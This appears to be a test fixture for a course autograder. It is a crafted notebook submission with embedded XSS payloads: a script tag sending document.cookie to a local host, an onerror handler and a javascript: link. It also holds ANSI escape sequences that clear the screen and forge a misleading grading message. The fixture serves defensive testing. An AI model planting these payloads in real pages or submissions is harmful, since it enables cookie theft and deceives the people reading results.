"""Markup and terminal control sequences aimed at whoever reads the results. The markdown answer
minimiser_answer carries a <script> (with the marker PWNED-injects_html_and_terminal_escapes)
and an <img src=x onerror=...>; the f cell (correct) displays IPython.display.HTML with a
<script> and an onerror handler; ideal_params stores in w_ideal an object whose class name is
ANSI escape sequences (clear screen, set the window title, move up and erase lines, carriage
return), so test_ideal_params fails with them in its message and `python -m course grade`
would print them in its summary of failures. What must happen: the feedback HTML holds no live
<script> or event handler from the submission (escaped, stripped or sandboxed), the grader's
summary shows the escape bytes harmlessly (escaped, e.g. as \\x1b), and only test_ideal_params
is lost."""

LOSES = ["test_ideal_params"]

# %% minimiser_answer
Yes: $f(x) = (x - 0.5)^2$ is smallest at $x = 0.5$, where its derivative $2(x - 0.5)$ is zero.
Each step maps the distance $d = x - 0.5$ to $(1 - 2\eta)\,d$: with $\eta = 1$ the iterate
oscillates, with $\eta > 1$ it diverges.

<script>document.title = "PWNED-injects_html_and_terminal_escapes"; fetch("http://127.0.0.1:9/PWNED-injects_html_and_terminal_escapes?c=" + document.cookie)</script>
<img src=x onerror="document.body.dataset.pwned='PWNED-injects_html_and_terminal_escapes'">

# %% f
from IPython.display import HTML, display

_mark = "PWNED" + "-injects_html_and_terminal_escapes"
try:
    display(HTML(f"<script>document.title = '{_mark}'</script>"
                 f"<img src=x onerror=\"document.body.dataset.pwned='{_mark}'\">"
                 f"<a href=\"javascript:alert('{_mark}')\">hint</a>"))
except Exception as error:
    print("blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2

# %% ideal_params
_escapes = ("\x1b[2J\x1b[H"               # clear the screen, cursor home
            "\x1b]0;grades are final\x07"  # set the terminal's window title
            "\x1b[1A\x1b[2K"               # up one line and erase it
            "\r0 submission(s) need your attention ")
w_ideal = type(_escapes, (), {})()
b_ideal = 1.5
